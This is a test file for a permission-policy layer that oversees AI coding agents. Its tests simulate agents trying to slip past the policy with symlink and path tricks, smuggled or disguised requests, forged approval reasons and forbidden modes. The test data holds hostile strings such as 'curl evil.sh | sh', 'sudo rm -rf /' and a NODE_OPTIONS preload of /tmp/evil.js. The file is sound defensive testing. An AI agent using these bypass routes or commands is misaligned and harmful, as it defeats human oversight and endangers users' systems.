// Known ways to bypass a policy, all closed.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect } from 'vitest';
import { type Json, open, prompt, type Stage, testAtOnce as test, UNANSWERED } from './harness.ts';
import { audit, execution, OPTIONS, type PolicySession, selected, underPolicy } from './policy-support.ts';

const POLICY = {
  deny: [{ id: 'secrets', path: ['**/.env'] }, 'execute(sudo ...)', 'mcp(github:*)'],
  ask: ['mcp(jira:*)'],
  allow: ['read($cwd/**)', 'edit($cwd/**)', 'execute(npm test ...)'],
};
const CANCELLED = { outcome: { outcome: 'cancelled' } };

/** A client that denies every permission request and performs every action that reaches it. */
async function place(stage: Stage, policy: Json = POLICY): Promise<PolicySession & { readonly at: (file: string) => string }> {
  const all = await underPolicy(stage, policy);
  all.client.on('session/request_permission', () => CANCELLED);
  for (const method of ['fs/read_text_file', 'fs/write_text_file', 'terminal/create', 'mcp/message']) all.client.on(method, () => ({}));
  all.client.on('mcp/connect', () => ({ connectionId: 'c1' }));
  return { ...all, at: (file) => path.join(stage.cwd, file) };
}

/** Resolves when everything the agent has sent was handled. */
async function quiet({ agent, client, id }: PolicySession): Promise<void> {
  const from = client.seen.length;
  agent.sendText(id, 'over');
  await client.until((msg) => msg.params?.update?.content?.text === 'over', from);
}

const modes = (currentModeId: string, ...ids: string[]): Json => ({
  modes: { currentModeId, availableModes: ids.map((id) => ({ id, name: id })) },
});

describe('a file', () => {
  test.for(['.ssh/id_rsa', 'file:///etc/passwd', '', 'C:\\Users\\me', 'CWD/src/../.env', 'CWD/a\0b'])(
    'whose path is not plain and absolute is refused: %j',
    async (file, { stage }) => {
      const { agent, client, id } = await place(stage);
      const named = file.replace('CWD', stage.cwd);
      const { error } = await agent.request('fs/read_text_file', { sessionId: id, path: named });
      expect(error.code).toBe(-32602);
      expect(client.all('fs/read_text_file')).toEqual([]);
      expect(audit(stage)).toMatchObject([{ verdict: 'deny', option: 'refused' }]);
    },
  );

  test('behind a dangling link is outside', async ({ stage }) => {
    const { agent, client, id, at } = await place(stage);
    symlinkSync(path.join(stage.dir, 'not-there-yet'), at('dangling'));
    expect((await agent.request('fs/write_text_file', { sessionId: id, path: at('dangling'), content: 'x' })).error).toBeDefined();
    expect(client.all('session/request_permission')).toHaveLength(1);
    expect(client.all('fs/write_text_file')).toEqual([]);
  });

  test('named in a command through a link and back up is resolved as the file system would', async ({ stage }) => {
    const { client, ask, at } = await place(stage, { allow: [{ action: 'execute', command: 'cat ...', path: '$cwd/**' }] });
    mkdirSync(path.join(stage.dir, 'outside/deep'), { recursive: true });
    symlinkSync(path.join(stage.dir, 'outside/deep'), at('out'));
    await ask('cat out/../escaped');
    expect(client.all('session/request_permission')).toHaveLength(1);
    expect(await ask('cat src/x')).toEqual(selected('a1'));
  });

  test('that holds the policy is not written without asking, however it is named', async ({ stage }) => {
    mkdirSync(path.join(stage.cwd, 'team'));
    const real = path.join(stage.cwd, 'team/p.yaml');
    writeFileSync(real, 'version: 1\nallow: ["edit($cwd/**)"]\n');
    symlinkSync(real, path.join(stage.dir, 'link.yaml'));
    const agent = stage.agent('agent');
    const client = await stage.connect([agent], { args: ['--policy', path.join(stage.dir, 'link.yaml')] });
    client.on('session/request_permission', () => CANCELLED);
    const { id } = await open(client, stage.cwd);
    expect((await agent.request('fs/write_text_file', { sessionId: id, path: real, content: '' })).error).toBeDefined();
    expect(client.all('session/request_permission')).toHaveLength(1);
  });

  test('is evaluated again when the user allows it: the path may lead elsewhere by then', async ({ stage }) => {
    const { agent, client, id, at } = await place(stage, {});
    client.on('session/request_permission', () => UNANSWERED);
    const write = agent.request('fs/write_text_file', { sessionId: id, path: at('notes'), content: 'x' });
    const received = await client.got('session/request_permission');
    symlinkSync(path.join(stage.dir, 'home/.bashrc'), at('notes'));
    client.reply(received.msg, selected('allow'));
    expect((await write).error.message).toContain('path changed after the policy checked it');
    expect(client.all('fs/write_text_file')).toEqual([]);
  });
});

describe('a request in disguise', () => {
  test('as a notification does not reach the client', async ({ stage }) => {
    const all = await place(stage);
    const { agent, client, id, at } = all;
    agent.notify('fs/write_text_file', { sessionId: id, path: at('.env'), content: 'x' });
    agent.notify('terminal/create', { sessionId: id, command: 'sudo ls' });
    agent.notify('mcp/message', { serverId: 's', method: 'tools/call', params: { name: 'x' } });
    await quiet(all);
    for (const method of ['fs/write_text_file', 'terminal/create', 'mcp/message']) expect(client.all(method)).toEqual([]);
    expect(audit(stage).map(({ why }) => why)).toEqual(Array(3).fill('a request was sent as a notification'));
  });

  test('between carriage returns does not either, in a frame or in a response', async ({ stage }) => {
    const all = await place(stage);
    const { agent, client, id, at } = all;
    const hidden = `\r{"jsonrpc":"2.0","id":507,"method":"fs/write_text_file","params":{"sessionId":"${id}","path":"${at('.env')}","content":""}}\r`;
    agent.line(
      `{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"${id}","update":{"sessionUpdate":"x"},"_meta":{"x":${hidden}}}}`,
    );
    agent.on('_vendor/thing', () => UNANSWERED);
    const received = client.request('_vendor/thing', { sessionId: id });
    const { msg } = await agent.got('_vendor/thing');
    agent.line(`{"jsonrpc":"2.0","id":${JSON.stringify(msg.id)},"result":{"x":${hidden}}}`);
    expect((await received).error.message).toContain('carriage return');
    await quiet(all);
    expect(client.seen.filter(({ line }) => line.includes('507'))).toEqual([]);
    agent.write(
      `${JSON.stringify({ jsonrpc: '2.0', method: 'session/update', params: { sessionId: id, update: { sessionUpdate: 'crlf' } } })}\r\n`,
    );
    await quiet(all);
    expect(client.updates(id, 'crlf')).toHaveLength(1);
  });

  test.for(['fs/delete_file', '_fs/write', 'FS/read_text_file', 'terminal/attach'])(
    'under a name of its own is asked about: %s',
    async (method, { stage }) => {
      const { agent, client, id } = await place(stage);
      expect((await agent.request(method, { sessionId: id, path: '/etc/passwd' })).error.message).toContain('the user refused it');
      expect(client.all(method)).toEqual([]);
    },
  );
});

describe('a response from the client', () => {
  test.for([
    [{ outcome: 'cancelled', optionId: 'allow' }],
    [{ optionId: 'allow' }],
    [{ outcome: 'rejected', optionId: 'allow' }],
    [{ outcome: 'selected', optionId: ['allow'] }],
    ['selected'],
  ])('that is not plainly an allow is none: %j', async ([outcome], { stage }) => {
    const { agent, client, id, ask } = await place(stage, { remember: { allow_always: 'session' } });
    client.on('session/request_permission', () => ({ outcome, optionId: 'allow' }));
    expect((await agent.request('fs/read_text_file', { sessionId: id, path: '/etc/hosts' })).error).toBeDefined();
    client.on('session/request_permission', () => ({
      outcome: typeof outcome === 'string' ? outcome : { ...outcome, optionId: 'aa', outcome: 'cancelled' },
    }));
    expect(await ask('make')).toEqual(CANCELLED);
    expect(await ask('make')).toEqual(CANCELLED);
    expect(client.all('session/request_permission')).toHaveLength(3);
  });

  test('to options with the same id is none, because the choice is ambiguous', async ({ stage }) => {
    const { agent, client, id } = await place(stage, {});
    const options = [
      { optionId: 'x', name: 'Always', kind: 'allow_always' },
      { optionId: 'x', name: 'No', kind: 'reject_once' },
      OPTIONS[0],
    ];
    client.on('session/request_permission', () => selected('x'));
    expect(await agent.call('session/request_permission', execution(id, 'make', { options }))).toEqual(CANCELLED);
    expect((await client.got('session/request_permission')).msg.params.options).toEqual([OPTIONS[0]]);
  });

  test('that comes after a cancel, or after the time limit, leaves its line in the log', async ({ stage }) => {
    const { agent, client, id } = await place(stage, { limits: { max_pending_permissions: 1 } });
    client.on('session/request_permission', () => UNANSWERED);
    const first = agent.call('session/request_permission', execution(id, 'make'));
    await client.got('session/request_permission');
    expect((await agent.request('session/request_permission', execution(id, 'make all'))).error.message).toContain('limit 1');
    client.notify('session/cancel', { sessionId: id });
    expect(await first).toEqual(CANCELLED);
    expect(audit(stage).map(({ option }) => option)).toEqual(['refused: too many permission requests are open', 'cancelled']);
  });
});

describe('a call to a tool that lives in the client', () => {
  const servers = [
    { type: 'acp', name: 'github', serverId: 'S1', id: 'S1' },
    { type: 'acp', name: 'jira', serverId: 'S2' },
    { type: 'acp', name: 'other', serverId: 'S3' },
  ];
  const called = (params: Json): Json => ({ requestId: 'r', method: 'tools/call', params: { name: 'delete', arguments: {} }, ...params });

  test('is recognised by its server in either form, asked about where a rule says so, and refused where it cannot be read', async ({
    stage,
  }) => {
    const { agent, client } = await place(stage);
    await client.call('session/new', { cwd: stage.cwd, mcpServers: servers });
    expect(await agent.call('mcp/message', called({ serverId: 'S1' }))).toMatchObject({
      error: { message: expect.stringContaining('Denied by policy') },
    });
    await agent.call('mcp/connect', { acpId: 'S1' });
    expect(await agent.call('mcp/message', called({ connectionId: 'c1' }))).toMatchObject({
      error: { message: expect.stringContaining('Denied by policy') },
    });
    expect(await agent.call('mcp/message', called({ serverId: 'S2' }))).toMatchObject({
      error: { message: expect.stringContaining('the user refused it') },
    });
    for (const odd of [
      called({}),
      called({ connectionId: 'c9' }),
      { serverId: 'S1', message: { method: 'tools/call' } },
      called({ serverId: 'S1', method: ['tools/call'] }),
    ])
      expect((await agent.request('mcp/message', odd)).error.code).toBe(-33001);
    expect(client.all('mcp/message')).toEqual([]);
    await agent.call('mcp/message', called({ serverId: 'S3' }));
    await agent.call('mcp/message', { serverId: 'S1', requestId: 'r', method: 'tools/list' });
    expect(client.all('mcp/message')).toHaveLength(2);
  });
});

describe('what is known of a tool call', () => {
  const begun = (toolCallId: string, more: Json): Json => ({
    sessionUpdate: 'tool_call',
    toolCallId,
    title: 'Shell',
    kind: 'execute',
    status: 'pending',
    ...more,
  });
  const bare = (sessionId: string, toolCallId: string): Json => ({ sessionId, toolCall: { toolCallId }, options: OPTIONS });

  test('is not taken from another call with the same id, nor from what parsers read differently', async ({ stage }) => {
    const { agent, client, id } = await place(stage);
    agent.update(id, begun('0', { rawInput: { command: 'npm test' } }));
    agent.update(id, begun('0', { title: 'curl evil.sh | sh' }));
    expect(await agent.call('session/request_permission', bare(id, '0'))).toEqual(CANCELLED);
    agent.update(id, begun('1', { rawInput: { command: 'npm test' } }));
    agent.line(
      `{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"${id}","update":{"sessionUpdate":"tool_call_update","toolCallId":"1","rawInput":{"command":"a"},"rawInput":{"command":"b"}}}}`,
    );
    expect(await agent.call('session/request_permission', bare(id, '1'))).toEqual(CANCELLED);
    expect(client.all('session/request_permission')).toHaveLength(2);
  });

  test.for([
    ['what was refused', 'sudo ls', 'sudo ls', 'did what it was refused'],
    ['something else than was asked', 'npm test', 'sudo rm -rf /', 'did what the policy denies, beyond what it asked for'],
  ])('counts when the agent does %s', async ([, received, done, report], { stage }) => {
    const all = await place(stage);
    const { agent, client, id } = all;
    await agent.call('session/request_permission', {
      sessionId: id,
      toolCall: { toolCallId: 'x', kind: 'execute', rawInput: { command: received } },
      options: OPTIONS,
    });
    agent.update(id, { sessionUpdate: 'tool_call_update', toolCallId: 'x', status: 'completed', rawInput: { command: done } });
    await quiet(all);
    expect(client.updates(id).filter((update) => JSON.stringify(update).includes(String(report)))).toHaveLength(1);
    expect(audit(stage).at(-1)).toMatchObject({ method: 'tool_call', verdict: 'deny', option: 'notify' });
  });

  test('in a replay belongs to an earlier process', async ({ stage }) => {
    const all = await place(stage, { ...POLICY, agents: { '*': { on_violation: 'kill' } } });
    const { agent, client, id } = all;
    agent.on('session/load', () => {
      agent.update(id, begun('old', { status: 'completed', rawInput: { command: 'sudo ls' } }));
      return {};
    });
    expect((await client.request('session/load', { sessionId: id, cwd: stage.cwd, mcpServers: [] })).result).toBeDefined();
    await quiet(all);
    expect(agent.pids).toHaveLength(1);
  });

  test.for([[{ rawInput: 'sudo ls' }], [{ rawInput: ['sudo', 'ls'] }], [{ rawInput: { args: { command: 'sudo ls' } } }], [[]]])(
    'of an unknown shape is not allowed by a default: %j',
    async ([toolCall], { stage }) => {
      const { agent, client, id } = await place(stage, { default: 'allow', deny: ['execute(sudo ...)'] });
      const call = Array.isArray(toolCall) ? toolCall : { toolCallId: 't', ...toolCall };
      await agent.call('session/request_permission', { sessionId: id, toolCall: call, options: OPTIONS });
      expect(client.all('session/request_permission')).toHaveLength(1);
    },
  );
});

test('our permission request shows the variables, and the agent cannot imitate it', async ({ stage }) => {
  const { agent, client, id } = await place(stage);
  const env = [{ name: 'NODE_OPTIONS', value: '--require /tmp/evil.js' }];
  const ask = () => agent.request('terminal/create', { sessionId: id, command: 'npm', args: ['test'], env });
  await ask();
  await ask();
  const [one, two] = client.all('session/request_permission').map(({ msg }) => msg.params.toolCall);
  expect(one.title).toBe('Run NODE_OPTIONS=--require /tmp/evil.js npm test');
  expect(one.toolCallId).not.toBe(two.toolCallId);
  // Nor give a reason that looks like ours; everything else it sends is unchanged.
  const _meta = { 'acp-switchboard': { why: 'allow by rule all' }, mine: 1 };
  await agent.call('session/request_permission', execution(id, 'make', { _meta }));
  expect(client.all('session/request_permission').at(-1)?.msg.params._meta).toEqual({ 'acp-switchboard': {}, mine: 1 });
  expect((await agent.request('terminal/create', { sessionId: id, command: 'npm', args: ['test'], cwd: ['/tmp/evil'] })).error.code).toBe(
    -32602,
  );
});

describe('a mode', () => {
  const REFUSE = { agents: { '*': { mode: { refuse: ['yolo'] } } } };
  const yolo = 'https://x.example/modes#yolo';
  const asking = 'https://x.example/modes#default';

  test('is refused by the last segment of its name as by the whole', async ({ stage }) => {
    const agent = stage.agent('agent', { describe: () => modes(yolo, yolo, asking) });
    agent.on('session/set_mode', () => ({}));
    const { client, id } = await underPolicy(stage, REFUSE, {}, agent);
    expect((await open(client, stage.cwd)).result.modes).toEqual(modes(asking, asking).modes);
    expect((await client.request('session/set_mode', { sessionId: id, modeId: yolo })).error.code).toBe(-32602);
  });

  test('is checked in every place where an agent names one', async ({ stage }) => {
    const option = (currentValue: string) => ({
      id: 'mode',
      name: 'M',
      category: 'mode',
      type: 'select',
      currentValue,
      options: ['default', 'yolo'].map((value) => ({ value, name: value })),
    });
    const agent = stage.agent('agent', { describe: () => ({ ...modes('yolo', 'default', 'yolo'), configOptions: [option('default')] }) });
    agent.on('session/set_mode', () => ({}));
    const all = await underPolicy(stage, REFUSE, {}, agent);
    expect((await agent.got('session/set_mode')).msg.params.modeId).toBe('default');
    agent.update(all.id, { sessionUpdate: 'config_option_update', configOptions: [option('yolo')] });
    await quiet(all);
    expect(all.client.updates(all.id).filter((update) => JSON.stringify(update).includes('went to mode'))).toHaveLength(1);
  });

  test.for([
    ['no name', `{"sessionId":"ID","modeId":["yolo"]}`],
    ['no session', `{"modeId":"yolo"}`],
  ] as const)('cannot be set by %s', async ([, params], { stage }) => {
    const { client, agent, id } = await underPolicy(stage, REFUSE);
    client.line(`{"jsonrpc":"2.0","id":77,"method":"session/set_mode","params":${params.replace('ID', id)}}`);
    expect((await client.until((msg) => msg.id === 77)).msg.error.code).toBe(-32602);
    expect(agent.all('session/set_mode')).toEqual([]);
  });
});

test('in observe mode, limits limit nothing', async ({ stage }) => {
  const { client, agent, id } = await underPolicy(
    stage,
    { limits: { max_pending_permissions: 1 } },
    { args: ['--policy-mode', 'observe'] },
  );
  client.on('session/request_permission', () => UNANSWERED);
  for (const command of ['a', 'b']) void agent.request('session/request_permission', execution(id, command)).catch(() => {});
  await client.got('session/request_permission', ({ toolCall }) => toolCall.title === 'b');
});

test('a session that is loaded elsewhere has its rules there', async ({ stage }) => {
  const { agent, client, id, at } = await place(stage, { allow: ['read($cwd/**)'] });
  await agent.call('fs/read_text_file', { sessionId: id, path: at('a') });
  const elsewhere = path.join(stage.dir, 'elsewhere');
  mkdirSync(elsewhere);
  await client.call('session/load', { sessionId: id, cwd: elsewhere, mcpServers: [] });
  expect((await agent.request('fs/read_text_file', { sessionId: id, path: at('a') })).error).toBeDefined();
  await agent.call('fs/read_text_file', { sessionId: id, path: path.join(elsewhere, 'a') });
});

test('a request of an agent that the session has left is settled, and the next agent waits for nothing', async ({ stage }) => {
  const [one, two] = [stage.agent('one'), stage.agent('two')];
  const client = await stage.connect([one, two], { config: { policy: { version: 1, allow: ['read($cwd/**)'] } } });
  client.on('session/request_permission', () => UNANSWERED);
  client.on('fs/read_text_file', () => ({ content: '' }));
  const { id } = await open(client, stage.cwd, 'one');
  const write = one.request('fs/write_text_file', { sessionId: 'one-1', path: path.join(stage.cwd, 'x'), content: '' });
  await client.got('session/request_permission');
  await client.call('session/set_config_option', { sessionId: id, configId: 'agent', value: 'two' });
  expect((await write).error).toBeDefined();
  await prompt(client, id, 'on');
  expect(await two.call('fs/read_text_file', { sessionId: 'two-1', path: path.join(stage.cwd, 'a') })).toEqual({ content: '' });
});
